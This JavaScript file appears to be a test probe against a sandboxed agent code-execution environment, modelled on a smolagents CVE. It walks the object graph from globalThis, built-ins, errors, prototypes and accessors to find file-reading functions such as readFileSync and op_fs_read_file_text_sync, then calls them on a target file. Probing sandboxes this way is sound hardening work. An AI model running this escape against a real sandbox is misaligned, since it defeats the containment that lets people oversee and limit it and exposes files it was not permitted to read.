// Tries: every object that can be reached by property, symbol, prototype or accessor, calling each function whose name
// reads files.
// Origin: walks over the object graph, as for smolagents' CVE-2025-5120.

const seen = new Set();
const queue = [globalThis, new Request("http://a/"), new Response("x"), new Blob(["x"]), new TextDecoder(), new Event("x"),
  new AbortController(), new ReadableStream(), new FormData(), new DOMException("x"), (function* () {})(), input];
try {
  await tools.fail({});
} catch (error) {
  queue.push(error);
}
const found = [];
const names = /^(read(TextFile|File)Sync|op_fs_read_file_text_sync)$/;
while (queue.length && seen.size < 60000) {
  const place = queue.shift();
  if (place === null || !["object", "function"].includes(typeof place) || seen.has(place) || place === tools) continue;
  seen.add(place);
  let keys = [];
  try {
    keys = Reflect.ownKeys(place);
    queue.push(Object.getPrototypeOf(place));
  } catch {
    continue;
  }
  for (const key of keys) {
    if (["__interfaces", "tools", "codemode", "local", "frames", "parent"].includes(key)) continue;
    const own = Object.getOwnPropertyDescriptor(place, key);
    queue.push(own?.get, own?.set, own?.value);
    if (typeof own?.value === "function" && names.test(String(key))) {
      try {
        found.push(String(key), `${place[key](input.file, "utf8")}`, place.args, place.argv);
      } catch (error) {
        found.push(`${error}`);
      }
    }
    if (own?.get && seen.size < 5000) {
      try {
        queue.push(place[key]);
      } catch { /* not for this receiver */ }
    }
  }
}
return found.slice(0, 50);
